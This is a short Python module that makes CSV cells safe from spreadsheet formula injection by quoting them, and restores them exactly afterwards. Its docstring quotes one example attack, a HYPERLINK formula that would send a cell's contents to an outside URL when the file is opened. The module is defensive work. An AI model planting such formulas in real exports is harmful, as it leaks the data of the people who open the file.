"""CSV cells that a spreadsheet will not run as formulas, and how to read them back.

A cell starting with `=`, `+`, `-`, `@`, tab or carriage return is a formula to Excel,
LibreOffice and Google Sheets: a statement like `=HYPERLINK("http://…?leak="&A1,"Click")` in an
export ran when a facilitator opened it. OWASP's advice (CSV Injection) is to start such a text
with a single quote, which spreadsheets show as text. Every CSV Polity writes for people passes
its cells through `neutralise`.

`restore` undoes it exactly: a text gets the quote when, past any quotes it already starts
with, it starts a formula; so `'=x` (a text that really starts with a quote) is written `''=x`,
and taking one quote off whatever starts that way gives back the text. Apply `restore` only to
files Polity wrote (`POLITY_MARK` in a Polis export's summary.csv): in anyone else's file a
leading quote is the author's.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The summary.csv row that says a Polis export folder was written by Polity, cells neutralised.
POLITY_MARK = ("polity-cells", "spreadsheet-safe")


def _starts_formula(text: str) -> bool:
    return text.lstrip("'").startswith(FORMULA_STARTS)


def neutralise(cell):
    """`cell` with a leading `'` if a spreadsheet would read it as a formula; non-texts as is."""
    if isinstance(cell, str) and _starts_formula(cell):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The text `neutralise` was given, from what it wrote."""
    if cell.startswith("'") and _starts_formula(cell[1:]):
        return cell[1:]
    return cell
